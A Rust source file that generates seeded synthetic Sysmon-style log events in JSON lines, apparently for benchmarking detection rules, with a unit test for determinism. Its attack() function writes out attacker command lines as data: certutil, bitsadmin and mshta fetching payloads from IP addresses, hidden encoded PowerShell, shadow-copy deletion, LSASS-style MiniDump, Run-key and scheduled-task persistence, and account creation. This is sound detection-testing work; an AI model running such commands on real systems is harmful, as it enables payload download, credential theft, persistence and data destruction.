//! Owns the events that are measured: made from a seed, so that every run can be told and repeated, and distinct
//! throughout, so that no memory of earlier values helps.

use std::fmt::Write as _;

/// A kind of traffic.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lane {
    /// Windows process creation as Sysmon writes it; ordinary programs.
    Process,
    /// The same, every second command line one that rules look for.
    Suspicious,
    /// Files created on Windows.
    File,
    /// Registry values set on Windows.
    Registry,
    /// Network connections from Windows.
    Network,
    /// All of the above by turns.
    Mixed,
    /// Processes on Linux.
    Linux,
    /// Processes on macOS.
    Macos,
    /// A Windows event as one text.
    Raw,
    /// Events that no rule's fields occur in.
    Foreign,
}

impl Lane {
    /// All lanes, in the order of the table.
    pub const ALL: [Self; 10] = [
        Self::Process,
        Self::Suspicious,
        Self::File,
        Self::Registry,
        Self::Network,
        Self::Mixed,
        Self::Linux,
        Self::Macos,
        Self::Raw,
        Self::Foreign,
    ];

    /// The lane's name on the command line and in the table.
    pub fn name(self) -> &'static str {
        match self {
            Self::Process => "process",
            Self::Suspicious => "suspicious",
            Self::File => "file",
            Self::Registry => "registry",
            Self::Network => "network",
            Self::Mixed => "mixed",
            Self::Linux => "linux",
            Self::Macos => "macos",
            Self::Raw => "raw",
            Self::Foreign => "foreign",
        }
    }

    /// Writes that many events, one JSON object a line.
    pub fn write(self, seed: u64, events: usize) -> Vec<u8> {
        let mut writer = Writer { random: Random(seed ^ self as u64), line: String::new() };
        let mut out = Vec::new();
        for number in 0..events {
            writer.line.clear();
            writer.event(self, number);
            out.extend_from_slice(writer.line.as_bytes());
            out.push(b'\n');
        }
        out
    }
}

/// SplitMix64: small, seeded, and good enough to choose words.
#[derive(Debug)]
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ mixed >> 30).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ mixed >> 27).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^ mixed >> 31
    }

    fn below(&mut self, end: usize) -> usize {
        (self.next() % end as u64) as usize
    }

    fn of<'a>(&mut self, choices: &[&'a str]) -> &'a str {
        choices[self.below(choices.len())]
    }

    /// A word as people and installers make them.
    fn word(&mut self) -> String {
        const SYLLABLES: [&str; 24] = [
            "ba", "cor", "del", "en", "fi", "gra", "hub", "in", "ka", "lo", "mar", "net", "or", "pro", "qui", "ra",
            "ser", "ta", "ul", "ver", "win", "xi", "yo", "zen",
        ];
        (0..2 + self.below(3)).map(|_| SYLLABLES[self.below(SYLLABLES.len())]).collect()
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut text = String::new();
        while text.len() < digits {
            let _ = write!(text, "{:016X}", self.next());
        }
        text.truncate(digits);
        text
    }

    fn guid(&mut self) -> String {
        let hex = self.hex(32);
        format!("{{{}-{}-{}-{}-{}}}", &hex[..8], &hex[8..12], &hex[12..16], &hex[16..20], &hex[20..])
    }

    fn user(&mut self) -> String {
        let word = self.word();
        format!("{}\\{word}", self.of(&["CORP", "WORKGROUP", "DESKTOP-7QK2"]))
    }

    fn time(&mut self) -> String {
        let (day, hour, minute) = (1 + self.below(28), self.below(24), self.below(60));
        format!("2026-11-{day:02} {hour:02}:{minute:02}:{:02}.{:03}", self.below(60), self.below(1000))
    }

    fn address(&mut self) -> String {
        format!("{}.{}.{}.{}", 1 + self.below(222), self.below(256), self.below(256), 1 + self.below(254))
    }

    fn hashes(&mut self) -> String {
        format!("MD5={},SHA256={},IMPHASH={}", self.hex(32), self.hex(64), self.hex(32))
    }
}

/// An ordinary program: its image and a command line.
fn program(random: &mut Random) -> (String, String) {
    let word = random.word();
    let other = random.word();
    let (image, arguments) = match random.below(12) {
        0 => (
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_owned(),
            format!(
                "--type=renderer --lang=en-US --device-scale-factor=1 --renderer-client-id={} --field-trial-handle={}",
                random.below(900),
                random.next() % 1_000_000
            ),
        ),
        1 => (
            "C:\\Windows\\System32\\svchost.exe".to_owned(),
            format!("-k {}Group -p -s {}Svc", random.of(&["LocalService", "netsvcs", "Unistack"]), word),
        ),
        2 => (
            "C:\\Windows\\System32\\backgroundTaskHost.exe".to_owned(),
            format!("-ServerName:App.App{}.mca", random.hex(20)),
        ),
        3 => (
            format!("C:\\Program Files\\{word}\\{other}.exe"),
            format!("--profile \"{other}\" --port {}", random.below(60_000)),
        ),
        4 => (
            format!("C:\\Program Files (x86)\\{word} {other}\\bin\\{word}Updater.exe"),
            format!("/check /channel:{other} /session {}", random.guid()),
        ),
        5 => (
            "C:\\Program Files\\Git\\cmd\\git.exe".to_owned(),
            format!("log -n {} --oneline -- src/{word}/{other}.rs", random.below(90)),
        ),
        6 => (
            "C:\\Windows\\System32\\SearchProtocolHost.exe".to_owned(),
            format!(
                "Global\\UsGthrFltPipeMssGthrPipe{0}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{0} 1",
                random.below(9000)
            ),
        ),
        7 => (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".to_owned(),
            format!("/n \"C:\\Users\\{word}\\Documents\\{other} report {}.docx\" /o \"\"", random.below(2000)),
        ),
        8 => ("C:\\Windows\\System32\\conhost.exe".to_owned(), "0xffffffff -ForceV1".to_owned()),
        9 => (
            format!("C:\\Users\\{word}\\AppData\\Local\\Programs\\{other}\\{other}.exe"),
            format!("--type=utility --user-data-dir=\"C:\\Users\\{word}\\AppData\\Roaming\\{other}\""),
        ),
        10 => (
            "C:\\Windows\\System32\\taskhostw.exe".to_owned(),
            random.of(&["Install", "KEYROAMING", "Regular"]).to_owned(),
        ),
        _ => (
            "C:\\Program Files\\dotnet\\dotnet.exe".to_owned(),
            format!("build C:\\src\\{word}\\{other}.csproj -c Release -o C:\\out\\{other}"),
        ),
    };
    let command = format!("\"{image}\" {arguments}");
    (image, command)
}

/// A program as attackers run it.
fn attack(random: &mut Random) -> (String, String) {
    let word = random.word();
    let other = random.word();
    let address = random.address();
    let (name, arguments) = match random.below(12) {
        0 => ("WindowsPowerShell\\v1.0\\powershell.exe", format!("-nop -w hidden -enc {}", random.hex(64))),
        1 => {
            ("certutil.exe", format!("-urlcache -split -f http://{address}/{word}.exe C:\\Users\\Public\\{other}.exe"))
        }
        2 => ("vssadmin.exe", format!("delete shadows /all /quiet {word}")),
        3 => (
            "rundll32.exe",
            format!(
                "C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\{word}.dmp full",
                random.below(9000)
            ),
        ),
        4 => (
            "reg.exe",
            format!(
                "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d C:\\Users\\Public\\{other}.exe"
            ),
        ),
        5 => (
            "schtasks.exe",
            format!("/create /sc minute /mo 1 /tn {word} /tr C:\\Users\\Public\\{other}.vbs /ru SYSTEM"),
        ),
        6 => ("net.exe", format!("user {word} {} /add", random.hex(12))),
        7 => (
            "bitsadmin.exe",
            format!("/transfer {word} /download http://{address}/{other}.exe C:\\Windows\\Temp\\{other}.exe"),
        ),
        8 => ("mshta.exe", format!("http://{address}/{word}.hta")),
        9 => ("wbem\\WMIC.exe", format!("/node:{address} process call create \"C:\\Users\\Public\\{word}.exe\"")),
        10 => ("whoami.exe", "/all".to_owned()),
        _ => ("cmd.exe", format!("/c echo {word} > \\\\.\\pipe\\{other} & ping {address} -n 3")),
    };
    let image = format!("C:\\Windows\\System32\\{name}");
    let command = format!("{} {arguments}", image.rsplit('\\').next().unwrap_or(name));
    (image, command)
}

/// Writes events as JSON.
struct Writer {
    random: Random,
    line: String,
}

impl Writer {
    fn event(&mut self, lane: Lane, number: usize) {
        match lane {
            Lane::Process => self.process(false),
            Lane::Suspicious => self.process(number.is_multiple_of(2)),
            Lane::File => self.file(),
            Lane::Registry => self.registry(),
            Lane::Network => self.network(),
            Lane::Mixed => match number % 5 {
                0 => self.process(false),
                1 => self.file(),
                2 => self.registry(),
                3 => self.network(),
                _ => self.process(number % 10 == 4),
            },
            Lane::Linux => self.unix("linux"),
            Lane::Macos => self.unix("macos"),
            Lane::Raw => self.raw(),
            Lane::Foreign => self.foreign(),
        }
        self.line.push('}');
    }

    fn source(&mut self, product: &str, category: &str, service: &str) {
        let _ = write!(self.line, r#"{{"product":"{product}","category":"{category}","service":"{service}""#);
    }

    fn number(&mut self, name: &str, number: usize) {
        let _ = write!(self.line, r#","{name}":{number}"#);
    }

    fn text(&mut self, name: &str, text: &str) {
        let _ = write!(self.line, r#","{name}":""#);
        for c in text.chars() {
            match c {
                '"' | '\\' => {
                    self.line.push('\\');
                    self.line.push(c);
                }
                '\n' => self.line.push_str("\\n"),
                '\r' => self.line.push_str("\\r"),
                '\t' => self.line.push_str("\\t"),
                _ => self.line.push(c),
            }
        }
        self.line.push('"');
    }

    /// The fields that all of Sysmon's events start with.
    fn sysmon(&mut self, category: &str, id: usize) {
        self.source("windows", category, "sysmon");
        self.number("EventID", id);
        let (time, guid) = (self.random.time(), self.random.guid());
        self.text("UtcTime", &time);
        self.text("ProcessGuid", &guid);
        let pid = self.random.below(30_000);
        self.number("ProcessId", pid);
    }

    fn process(&mut self, suspicious: bool) {
        self.sysmon("process_creation", 1);
        let (image, command) = if suspicious { attack(&mut self.random) } else { program(&mut self.random) };
        let (parent, parent_command) = program(&mut self.random);
        let user = self.random.user();
        let original = image.rsplit('\\').next().unwrap_or_default().to_owned();
        self.text("Image", &image);
        self.text("OriginalFileName", &original);
        self.text("CommandLine", &command);
        let directory = format!("C:\\Users\\{}\\", self.random.word());
        self.text("CurrentDirectory", &directory);
        self.text("User", &user);
        let integrity = self.random.of(&["Medium", "High", "System", "Low"]);
        self.text("IntegrityLevel", integrity);
        let hashes = self.random.hashes();
        self.text("Hashes", &hashes);
        self.text("ParentImage", &parent);
        self.text("ParentCommandLine", &parent_command);
    }

    fn file(&mut self) {
        self.sysmon("file_event", 11);
        let (image, _) = program(&mut self.random);
        self.text("Image", &image);
        let (word, other, time) = (self.random.word(), self.random.word(), self.random.time());
        let folder = self.random.of(&["AppData\\Local\\Temp", "Documents", "AppData\\Roaming\\Vendor", "Downloads"]);
        let extension = self.random.of(&["tmp", "log", "docx", "json", "png", "dat", "pf", "xml"]);
        self.text(
            "TargetFilename",
            &format!("C:\\Users\\{word}\\{folder}\\{other}{}.{extension}", self.random.0 % 10_000),
        );
        self.text("CreationUtcTime", &time);
        let user = self.random.user();
        self.text("User", &user);
    }

    fn registry(&mut self) {
        self.sysmon("registry_set", 13);
        let (image, _) = program(&mut self.random);
        self.text("EventType", "SetValue");
        self.text("Image", &image);
        let (word, other) = (self.random.word(), self.random.word());
        let key = self.random.of(&[
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer",
            "HKU\\S-1-5-21-1004336348-1177238915-682003330-512\\Software",
            "HKLM\\System\\CurrentControlSet\\Services",
            "HKCR\\CLSID",
        ]);
        self.text("TargetObject", &format!("{key}\\{word}\\{other}"));
        let details = match self.random.below(3) {
            0 => format!("DWORD (0x{})", self.random.hex(8)),
            1 => "Binary Data".to_owned(),
            _ => format!("C:\\Program Files\\{word}\\{other}.dll"),
        };
        self.text("Details", &details);
    }

    fn network(&mut self) {
        self.sysmon("network_connection", 3);
        let (image, _) = program(&mut self.random);
        self.text("Image", &image);
        let user = self.random.user();
        self.text("User", &user);
        self.text("Protocol", "tcp");
        let initiated = self.random.of(&["true", "false"]);
        self.text("Initiated", initiated);
        let (source, target, host) = (self.random.address(), self.random.address(), self.random.word());
        self.text("SourceIp", &source);
        let port = self.random.below(65_536);
        self.number("SourcePort", port);
        self.text("DestinationIp", &target);
        self.text("DestinationHostname", &format!("{host}.example.net"));
        let port = [443, 80, 53, 8080][self.random.below(4)];
        self.number("DestinationPort", port);
    }

    fn unix(&mut self, product: &str) {
        self.source(product, "process_creation", "");
        let (word, other) = (self.random.word(), self.random.word());
        let (image, arguments) = match self.random.below(6) {
            0 => ("/usr/bin/grep", format!("-rn {word} /home/{other}/src")),
            1 => ("/usr/bin/python3", format!("/opt/{word}/{other}.py --port {}", self.random.below(60_000))),
            2 => ("/usr/bin/ls", format!("-la /home/{word}/{other}")),
            3 => ("/bin/bash", format!("-c 'tar czf /backup/{word}.tgz /srv/{other}'")),
            4 => ("/usr/bin/curl", format!("-s https://{word}.example.com/{other}")),
            _ => ("/usr/sbin/cron", format!("-f {word}")),
        };
        self.text("Image", image);
        self.text("CommandLine", &format!("{} {arguments}", image.rsplit('/').next().unwrap_or_default()));
        self.text("CurrentDirectory", &format!("/home/{word}"));
        self.text("User", &word);
        let (pid, parent) = (self.random.below(100_000), self.random.below(100_000));
        self.number("ProcessId", pid);
        self.number("ParentProcessId", parent);
        self.text("ParentImage", "/bin/bash");
        self.text("ParentCommandLine", &format!("-bash {other}"));
    }

    fn raw(&mut self) {
        self.source("windows", "raw", "");
        let (image, command) = program(&mut self.random);
        let (parent, parent_command) = program(&mut self.random);
        let (time, guid, hashes, user) =
            (self.random.time(), self.random.guid(), self.random.hashes(), self.random.user());
        self.text(
            "message",
            &format!(
                "Process Create:\r\nUtcTime: {time}\r\nProcessGuid: {guid}\r\nImage: {image}\r\nCommandLine: {command}\r\n\
                 User: {user}\r\nHashes: {hashes}\r\nParentImage: {parent}\r\nParentCommandLine: {parent_command}"
            ),
        );
    }

    fn foreign(&mut self) {
        self.line.push_str("{\"level\":\"info\"");
        for name in ["component", "instance", "operation", "result", "trace"] {
            let word = self.random.word();
            self.text(name, &word);
        }
        let latency = self.random.below(10_000);
        self.number("latency", latency);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_seed_tells_the_events_and_no_two_are_alike() {
        for lane in Lane::ALL {
            let events = lane.write(7, 500);
            assert_eq!(events, lane.write(7, 500), "{}", lane.name());
            assert_ne!(events, lane.write(8, 500), "{}", lane.name());
            let lines: std::collections::HashSet<_> = events.split(|&b| b == b'\n').collect();
            assert_eq!(lines.len(), 501, "{}", lane.name());
        }
    }
}
